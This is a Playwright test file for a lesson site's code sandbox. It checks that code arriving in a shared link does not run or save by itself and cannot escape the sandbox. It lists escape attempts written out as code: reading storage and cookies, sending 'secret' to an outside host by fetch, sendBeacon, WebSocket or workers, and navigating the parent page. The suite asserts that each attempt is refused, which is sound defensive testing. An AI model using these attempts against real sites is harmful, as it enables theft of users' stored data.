import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { deflateRawSync } from "node:zlib";
import type { Locator, Page } from "@playwright/test";
import { expect, test } from "./fixtures.ts";
import { chooseLanguage } from "./python-sandbox.ts";

const LESSON = "/lessons/coroutines/";
const ID = "wake-it-up-sandbox";

/** A link as somebody hostile would make it: by hand. */
function linkTo(code: string, path = "/main.ts"): string {
  const packed = deflateRawSync(JSON.stringify({ [path]: code })).toString("base64url");
  return `${LESSON}#sandbox=${ID}&code=${packed}`;
}

/** The sandbox the links are for, with the code of the page's link in it. */
async function open(page: Page, link: string): Promise<{ region: Locator; editor: Locator; status: Locator }> {
  await page.goto(link);
  const region = page.locator(`[id="${ID}"]`);
  const status = region.getByRole("status");
  await expect(status).toContainText("This code came with a link");
  return { region, editor: region.getByRole("textbox", { name: "main.ts", exact: true }), status };
}

const run = (region: Locator) => region.getByRole("button", { name: "Run", exact: true }).click();

test("code in a link does not run until it is asked to, whatever else is run or opened", async ({ page }) => {
  const { region, status } = await open(page, linkTo(`console.log("hostile");`));
  const console = region.getByRole("log", { name: "Console" });
  await region.getByRole("tab", { name: "Timeline" }).click();
  await region.getByRole("button", { name: "Compiled" }).click();
  await expect(region.getByRole("region", { name: "main.ts, compiled" })).toContainText("hostile");
  await region.getByRole("tab", { name: "Console" }).click();
  await expect(console).toBeEmpty();
  await region.getByRole("button", { name: "Hint" }).click();
  await expect(console).toBeEmpty();
  await run(region);
  await expect(console).toContainText("hostile");
  await expect(status).toHaveText(/^Finished/);
});

test("code in a link never becomes the draft by itself: not by typing, running, saving or leaving", async ({
  page,
}) => {
  const { region, editor, status } = await open(page, linkTo("// hostile"));
  await editor.fill("// hostile, and changed");
  await run(region);
  await expect(status).toHaveText(/^Finished/);
  await editor.press("Control+s");
  await expect(status).toContainText("Not saved: this code came with a link");
  await page.goto("about:blank");
  await page.goto(LESSON);
  await region.getByRole("button", { name: "Run", exact: true }).click();
  await expect(editor).toContainText("brew(");
  await expect(editor).not.toContainText("hostile");
  await expect(region.getByText("Your draft")).toHaveCount(0);
});

test("code in a link is shown in its own language, and the reader's choice stays", async ({ page }) => {
  const region = page.locator(`[id="${ID}"]`);
  const editor = (name: string) => region.getByRole("textbox", { name, exact: true });
  await page.goto(linkTo("# from Python", "/main.py"));
  await expect(editor("main.py")).toHaveText("# from Python");
  await page.goto("about:blank");
  await page.goto(`${LESSON}#wake-it-up`);
  await expect(async () => {
    await page.keyboard.press("Shift");
    await expect(editor("main.ts")).toBeVisible({ timeout: 1000 });
  }).toPass();
  await chooseLanguage(page, "Python");
  await expect(editor("main.py")).toContainText("kitchen");
  await page.goto("about:blank");
  await page.goto(linkTo("// from TypeScript"));
  await expect(editor("main.ts")).toHaveText("// from TypeScript");
});

test("a link that is damaged, or for a file that the sandbox does not have, says so", async ({ page }) => {
  const region = page.locator(`[id="${ID}"]`);
  for (const path of ["/main.rs", "main.ts", "toString", "__proto__", ""]) {
    await test.step(`“${path}”`, async () => {
      // The page stays: a sandbox hears of each link that it is sent to.
      await page.goto(`${LESSON}#sandbox=${ID}&code=AAAA`);
      await expect(region.getByRole("status")).toContainText("The link is damaged");
      await page.goto(linkTo("// elsewhere", path));
      await expect(region.getByRole("status")).toContainText("contains no code for this sandbox");
      await expect(region.getByRole("textbox", { name: "main.ts", exact: true })).toContainText("brew(");
    });
  }
});

/**
 * What hostile code tries, each in a program of its own. `own` is the real global object, whatever the sandbox hides:
 * most of what is refused here is hidden from programs first, so the programs look for it where it comes from.
 */
const ATTEMPTS: Record<string, string> = {
  localStorage: `own.localStorage.getItem("secret")`,
  sessionStorage: `own.sessionStorage.length`,
  cookies: `own.document.cookie`,
  cookieStore: `await own.cookieStore.getAll()`,
  IndexedDB: `await new Promise((resolve, reject) => {
    const opening = own.indexedDB.open("asyncio-explained");
    opening.onsuccess = resolve;
    opening.onerror = () => reject(opening.error);
  })`,
  caches: `await own.caches.keys()`,
  "the file system": `await own.navigator.storage.getDirectory()`,
  "the document": `own.document.title`,
  "the parent": `own.parent.document.title`,
  "the top": `own.top.location.href`,
  opener: `own.opener.document.title`,
  fetch: `await own.fetch(HOST)`,
  "fetch of this site": `await own.fetch(SITE)`,
  XMLHttpRequest: `(() => {
    const request = new own.XMLHttpRequest();
    request.open("GET", HOST, false);
    request.send();
  })()`,
  WebSocket: `await new Promise((resolve, reject) => {
    const socket = new own.WebSocket(HOST.replace("http", "ws"));
    socket.onopen = resolve;
    socket.onerror = () => reject(new Error("refused"));
  })`,
  EventSource: `await new Promise((resolve, reject) => {
    const source = new own.EventSource(HOST);
    source.onopen = resolve;
    source.onerror = () => reject(new Error("refused"));
  })`,
  importScripts: `own.importScripts(HOST + "script.js")`,
  "import()": `await own.eval("import(" + JSON.stringify(HOST + "script.js") + ")")`,
  Worker: `new own.Worker(HOST + "script.js")`,
  "a Worker from a blob": `new own.Worker(own.URL.createObjectURL(new own.Blob(["fetch('" + HOST + "')"])))`,
  navigation: `(() => {
    own.location.href = HOST;
    if (own.location.href !== HOST) throw new Error("refused");
  })()`,
  "open()": `own.open(HOST).document`,
  sendBeacon: `own.navigator.sendBeacon(HOST, "secret")`,
  "a service worker": `await own.navigator.serviceWorker.register("/x.js")`,
  BroadcastChannel: `new own.BroadcastChannel("asyncio-explained").postMessage({ kind: "all" })`,
  "a message to the page": `own.postMessage({ type: "ended" })`,
};

/** A program that tries everything, and prints how each attempt ended. */
function attempts(host: string, site: string): string {
  const tries = Object.entries(ATTEMPTS).map(([name, attempt]) => {
    return `await tryIt(${JSON.stringify(name)}, async () => ${attempt});`;
  });
  // Native promises, by a function the compiler never sees as one: the program's own async functions are coroutines.
  return `const HOST = ${JSON.stringify(host)};
const SITE = ${JSON.stringify(site)};
const show = (line: string) => console.log(line);
Function("HOST", "SITE", "show", ${JSON.stringify(`
const own = globalThis;
const tryIt = async (name, attempt) => {
  try {
    await attempt();
    show(name + ": REACHED");
  } catch {
    show(name + ": refused");
  }
};
(async () => {
  ${tries.join("\n  ")}
  show("that was all");
})();
`)})(HOST, SITE, show);
`;
}

test("code of a link, once run, reaches no storage, no document and no host", async ({
  page,
  baseURL,
  expectedProblems,
}) => {
  // The browser tells of what the content security policy has refused.
  expectedProblems.push(/Content Security Policy|violates the following/);
  const asked: string[] = [];
  const host = createServer((request, response) => {
    asked.push(request.url ?? "");
    response.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end();
  });
  const address = await listening(host);
  // The browser also tells of a request that the policy stops on its way out: the host itself has to be asked.
  expectedProblems.push(new RegExp(`^request to another host: ${address}script.js$`));
  try {
    await page.goto(LESSON);
    await page.evaluate(() => localStorage.setItem("secret", "1"));
    const { region, status } = await open(page, linkTo(attempts(address, new URL(LESSON, baseURL).href)));
    const title = await page.title();
    await run(region);
    await expect(status).toHaveText(/^(Finished|Ended)/);
    const refused = Object.keys(ATTEMPTS).map((name) => `${name}: refused`);
    await expect(region.locator(".sandbox-line > :last-child")).toHaveText([...refused, "that was all"]);
    expect(asked).toEqual([]);
    expect(await page.title()).toBe(title);
    expect(await page.evaluate(() => localStorage.getItem("secret"))).toBe("1");
  } finally {
    host.closeAllConnections();
    host.close();
  }
});

/** @returns the server's address; another host than the site's, for it has another port */
async function listening(server: Server): Promise<string> {
  await new Promise<void>((resolve) => server.listen(0, "localhost", resolve));
  return `http://localhost:${(server.address() as AddressInfo).port}/`;
}
